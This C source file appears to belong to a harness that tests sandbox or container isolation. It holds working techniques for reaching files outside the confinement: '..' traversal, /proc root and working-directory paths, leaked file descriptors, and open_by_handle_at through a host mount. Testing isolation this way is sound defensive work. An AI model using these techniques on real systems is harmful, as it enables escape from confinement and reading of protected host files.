/* Files outside: by paths, by what processes in sight hold open, by handles. */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static bool holds_token(int fd)
{
    char text[256] = {0};
    const char *token = value_of("token");
    return fd >= 0 && pread(fd, text, sizeof text - 1, 0) > 0 && strstr(text, token);
}

static const char *file_by_path(void)
{
    return outcome(holds_token(open(value_of("file"), O_RDONLY)));
}

static const char *file_by_dots(void)
{
    char path[TEXT_MAX];
    snprintf(path, sizeof path, "/../../../../../../../../../..%s", value_of("file"));
    return outcome(holds_token(open(path, O_RDONLY)));
}

/* Every process in sight: its root, its working folder. */
static const char *file_by_proc(void)
{
    DIR *proc = opendir("/proc");
    for (const struct dirent *e; proc && (e = readdir(proc));) {
        static const char *const ways[] = {"root", "cwd/../../../../../../../.."};
        for (size_t i = 0; i < 2; i++) {
            char path[TEXT_MAX + 512];
            snprintf(path, sizeof path, "/proc/%s/%s%s", e->d_name, ways[i], value_of("file"));
            if (holds_token(open(path, O_RDONLY)))
                return NULL;
        }
    }
    return "no process leads there";
}

static bool leads_out(int process, const char *fd)
{
    struct stat st;
    if (fstatat(process, fd, &st, 0) < 0)
        return false;
    if (S_ISREG(st.st_mode))
        return holds_token(openat(process, fd, O_RDONLY | O_NONBLOCK));
    int folder = S_ISDIR(st.st_mode) ? openat(process, fd, O_RDONLY | O_DIRECTORY) : -1;
    char path[TEXT_MAX];
    snprintf(path, sizeof path, "../../../../../../../..%s", value_of("file"));
    return folder >= 0 && holds_token(openat(folder, path, O_RDONLY));
}

/* Descriptors that somebody in sight forgot to close. */
static const char *file_by_leaked_fd(void)
{
    DIR *proc = opendir("/proc");
    for (const struct dirent *e; proc && (e = readdir(proc));) {
        char path[512];
        snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
        DIR *fds = opendir(path);
        for (const struct dirent *fd; fds && (fd = readdir(fds));)
            if (leads_out(dirfd(fds), fd->d_name))
                return NULL;
        if (fds)
            closedir(fds);
    }
    return "no descriptor leads there";
}

static struct file_handle *new_handle(void)
{
    struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE_SZ);
    h->handle_bytes = MAX_HANDLE_SZ;
    return h;
}

int print_handle(const char *path)
{
    struct file_handle *h = new_handle();
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) < 0)
        return 1;
    printf("%d", h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++)
        printf(".%02x", h->f_handle[i]);
    printf("\n");
    return 0;
}

/* /usr is a mount of the host's file system, which numbers all files of the host. */
static const char *file_handle(void)
{
    struct file_handle *h = new_handle();
    char *p;
    h->handle_type = (int)strtol(value_of("handle"), &p, 10);
    for (h->handle_bytes = 0; *p == '.' && h->handle_bytes < MAX_HANDLE_SZ;)
        h->f_handle[h->handle_bytes++] = (unsigned char)strtol(p + 1, &p, 16);
    int at = open("/usr", O_RDONLY | O_DIRECTORY);
    return outcome(open_by_handle_at(at, h, O_RDONLY) >= 0);
}

const struct attempt files_attempts[] = {
    {.name = "file_by_path", .run = file_by_path},
    {.name = "file_by_dots", .run = file_by_dots},
    {.name = "file_by_proc", .run = file_by_proc},
    {.name = "file_by_leaked_fd", .run = file_by_leaked_fd},
    {.name = "file_handle", .run = file_handle},
    {.name = NULL},
};
